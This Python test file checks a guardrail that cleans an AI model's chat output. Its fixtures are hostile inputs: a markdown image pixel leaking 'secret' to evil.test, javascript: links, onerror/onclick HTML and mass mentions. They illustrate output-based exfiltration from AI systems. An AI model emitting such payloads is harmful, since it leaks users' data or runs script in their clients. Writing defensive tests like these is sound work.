"""What the model wrote is shown without foreign links, images, mentions of everyone, and HTML."""

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from guardrails.output import screen

ALLOWED = {"/documents/leave.md", "https://intra/a(b)"}
CASES = [
    ("You have 25 days [1].", "You have 25 days [1]."),
    (
        "[Leave](/documents/leave.md) and [b](https://intra/a(b))",
        "[Leave](/documents/leave.md) and [b](https://intra/a(b))",
    ),
    ("See [the rules](https://evil.test/?q=1).", "See the rules."),
    ('See [it](https://evil.test "title") and [1](https://evil.test).', "See it and [1]."),
    ("![pixel](https://evil.test/p.png?d=secret)Hello", "pixelHello"),
    ("[![alt](https://i.test)](https://evil.test)", "alt"),
    ("[1]: https://evil.test/x", ""),
    ("Open https://evil.test/x?y=1.", "Open `https://evil.test/x?y=1`."),
    ("<https://evil.test|click> <https://evil.test/> <javascript:alert(1)|x>", "click `https://evil.test/` x"),
    ("Hi <!channel> and <@U123>", "Hi <\u2060!channel> and <\u2060@U123>"),
    ("@everyone @Here ann@here.org", "@\u2060everyone @\u2060Here ann@here.org"),
    ("<b>x</b> <img src=x onerror=y", "<\u2060b>x<\u2060/b> <\u2060img src=x onerror=y"),
    ("<at>Bob</at><x onclick=y><!-- z", "<\u2060at>Bob<\u2060/at><\u2060x onclick=y><\u2060!-- z"),
    ("if a<b: List<String>", "if a<b: List<String>"),
    ("`<b> https://x.test` ```\n<b>\n```", "`<b> https://x.test` ```\n<b>\n```"),
    ("`<!here>`", "`<\u2060!here>`"),
    ("Mail <EMAIL_ADDRESS_1> or [x](https://evil.test/<EMAIL_ADDRESS_1>)", "Mail <EMAIL_ADDRESS_1> or x"),
]


@pytest.mark.parametrize(("said", "shown"), CASES)
def test_only_what_is_ours_stays(said: str, shown: str) -> None:
    assert screen(said, ALLOWED) == shown


@given(
    st.lists(
        st.sampled_from(["[", "]", "(", ")", "!", "<", ">", "https://e.test/", "|", "a", "`", "@here", "\n", " "])
    ).map("".join)
)
def test_screening_is_finished_after_once(said: str) -> None:
    once = screen(said)
    assert "](https" not in once
    assert not re.search(r"(?<!\w)@here\b", once)
